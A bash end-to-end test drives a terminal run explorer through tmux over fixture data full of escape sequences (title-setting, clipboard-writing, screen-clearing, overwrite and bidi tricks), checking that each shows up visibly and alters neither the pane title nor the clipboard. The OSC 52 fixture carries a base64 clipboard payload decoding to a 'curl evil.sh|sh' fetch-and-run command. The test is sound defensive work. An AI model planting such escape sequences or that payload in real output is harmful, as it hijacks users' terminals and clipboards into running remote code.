#!/usr/bin/env bash
# End-to-end walk of issue 37 §1 in the explorer: a run whose responses and
# model names carry OSC 0 (set the title), OSC 52 (set the clipboard), CSI,
# CR and BS (overwrite what is drawn), U+202E, C1, a NUL and invalid UTF-8
# (tests/data/hostile-run) is browsed at 80x24 and 220x50, and once with
# NO_COLOR=1 LANG=C: dashboard, the run's answers, the detail and the state
# view of each answer, the other runs, help, quit; --batch prints it; y
# copies an answer and v pages it.  tmux accepts OSC 52 from
# the pane here (set-clipboard on), so a byte that reached the terminal would
# change the tmux buffer or the pane title: both must be as set before, and
# the screen must show the visible escapes, "wrong\rright" whole.
#   tests/e2e/hostile.sh PATH/TO/planlens
set -u
bin=$1
root=$(cd "$(dirname "$0")/../.." && pwd)
sock=planlens-hostile-$$
WAIT_TENTHS=100
KEY_PAUSE=0.15
. "$(dirname "$0")/harness.sh"

cd "$root"
run=tests/data/hostile-run
title=KNOWN-PANE-TITLE
buffer=KNOWN-TMUX-BUFFER

# walk SIZE ENV: browse every screen of the hostile run, then check what the terminal kept
walk() {
  local w=$1 h=$2 env=$3 at="$1x$2 $3" dot='·' gt='›'
  case $env in *LC_ALL=C*) dot='-' gt='>' ;; esac # ASCII: the same escapes, ASCII marks
  # the explorer starts after the title is set: it waits for the Enter below
  session "$w" "$h" "read go; env $env $bin $run; echo EXITED rc=\$?; sleep 60"
  t set-option -g set-clipboard on
  t select-pane -t e2e -T "$title"
  t set-buffer "$buffer"
  keys Enter
  check "$at dashboard" "hostile\\e]0;PWNED-TITLE\\arun"
  check "$at CR in a run name" "m-cr\\rfake"
  keys Enter
  check "$at the run's answers" "questions {hostile\\e]0;PWNED-TITLE\\arun"
  for i in 1 2 3 4 5 6 7; do
    keys Enter
    check "$at detail $i" "hostile\\e]0;PWNED-TITLE\\arun $dot blocksworld-4ops $dot app $dot $i"
    keys G # the response is the detail's last section: at 80x24 below the verdict and the failure
    case $i in
      1) check "$at OSC 0 visible" "\\e]0;PWNED-TITLE\\a osc-title" ;;
      2) check "$at OSC 52 visible" "\\e]52;c;Y3VybCBldmlsLnNofHNo\\a osc-clip" ;;
      3) check "$at CSI visible" "\\e[2J\\e[31m(pick-up c) csi-clear" ;;
      4) check "$at CR: wrong and right both shown" "wrong\\rright"
         check_absent "$at right did not overwrite wrong" "rightg" ;;
      5) check "$at BS visible" "back\\b\\b\\bXXX"
         check "$at bidi override visible" "\\u202e(unstack d a)\\u202c"
         check_re "$at tab expanded to spaces" "tab +end" ;;
      6) check "$at NUL and C1 visible" "nul\\0after c1\\u009b31m" ;;
    esac
    keys s # the state the question is asked in
    check "$at state view $i" "state: step 0 of 0"
    keys q
    keys q
    check "$at back on the answers" "questions {hostile"
    keys j
  done
  keys q
  check "$at back on the dashboard" "planlens $gt dashboard"
  keys j Enter
  keys Enter
  check "$at invalid UTF-8 name" "m-bad"
  keys q q
  keys j Enter
  keys Enter
  check "$at CR name detail" "m-cr\\rfake $dot blocksworld-4ops"
  keys q q
  keys ?
  check "$at help" "Keys of the"
  keys q
  keys Q
  check "$at quits" "EXITED rc=0"
  local now_title now_buffer
  now_title=$(t display-message -p -t e2e '#{pane_title}')
  now_buffer=$(t show-buffer)
  if [ "$now_title" = "$title" ]; then echo "ok: $at pane title unchanged"; else
    echo "FAIL: $at pane title is now '$now_title'"; failures=$((failures + 1)); fi
  if [ "$now_buffer" = "$buffer" ]; then echo "ok: $at tmux buffer unchanged"; else
    echo "FAIL: $at tmux buffer is now '$now_buffer'"; failures=$((failures + 1)); fi
}

# the checks can see an attack: raw bytes in this pane do change the title and the buffer
session 80 24 "read go; printf '\\033]0;PWNED\\007\\033]52;c;cHduZWQ=\\007'; sleep 60"
t set-option -g set-clipboard on
t select-pane -t e2e -T "$title"
t set-buffer "$buffer"
keys Enter
sleep 0.5
if [ "$(t display-message -p -t e2e '#{pane_title}')" = PWNED ] && [ "$(t show-buffer)" = pwned ]; then
  echo "ok: the walk would see an escape reach the terminal"
else
  echo "FAIL: raw OSC 0 / OSC 52 did not change the pane title or buffer: the walk proves nothing"
  failures=$((failures + 1))
fi

walk 80 24 "LANG=C.UTF-8"
walk 220 50 "LANG=C.UTF-8"
walk 80 24 "NO_COLOR=1 LANG=C LC_ALL=C"

# --batch prints the dashboard to the terminal itself (no curses between): the
# same safe text, so the pane title and the buffer stay
session 120 20 "read go; env LANG=C.UTF-8 $bin --batch $run; echo EXITED rc=\$?; sleep 60"
t set-option -g set-clipboard on
t select-pane -t e2e -T "$title"
t set-buffer "$buffer"
keys Enter
check "batch: escapes visible" "hostile\\e]0;PWNED-TITLE\\arun app"
check "batch: CR visible" "m-cr\\rfake"
check "batch: exits" "EXITED rc=0"
if [ "$(t display-message -p -t e2e '#{pane_title}')" = "$title" ] && [ "$(t show-buffer)" = "$buffer" ]; then
  echo "ok: batch: pane title and tmux buffer unchanged"
else
  echo "FAIL: batch: pane title '$(t display-message -p -t e2e '#{pane_title}')', buffer '$(t show-buffer)'"
  failures=$((failures + 1))
fi

# y copies the answer made safe (the OSC 52 payload is the text with its escapes
# visible, which tmux puts in its buffer); v hands $PAGER a file without ESC
session 100 30 "read go; env LANG=C.UTF-8 PAGER='tee $work/paged.txt <' $bin $run; echo EXITED rc=\$?; sleep 60"
t set-option -g set-clipboard on
t set-buffer "$buffer"
keys Enter
check "yank: dashboard" "hostile\\e]0;PWNED-TITLE"
keys Enter
keys j Enter
check "yank: the OSC 52 answer" "osc-clip"
keys y
keys a
check "yank: copied" "copied answer"
want='[(pick-up c)]\e]52;c;Y3VybCBldmlsLnNofHNo\a osc-clip'
if [ "$(t show-buffer)" = "$want" ]; then echo "ok: yank: the clipboard holds the safe text"; else
  echo "FAIL: yank: the tmux buffer is '$(t show-buffer)', not '$want'"; failures=$((failures + 1)); fi
keys v
check "pager: back" "back from tee"
if [ -s "$work/paged.txt" ] && ! grep -q $'\x1b' "$work/paged.txt" && grep -qF '\e]52;c;Y3VybCBldmlsLnNofHNo\a' "$work/paged.txt"
then echo "ok: pager: the file shows the escapes, holds no ESC"; else
  echo "FAIL: pager: $work/paged.txt:"; cat -v "$work/paged.txt"; failures=$((failures + 1)); fi
keys Q
check "yank: quits" "EXITED rc=0"

echo "$failures failure(s)"
[ "$failures" -eq 0 ]
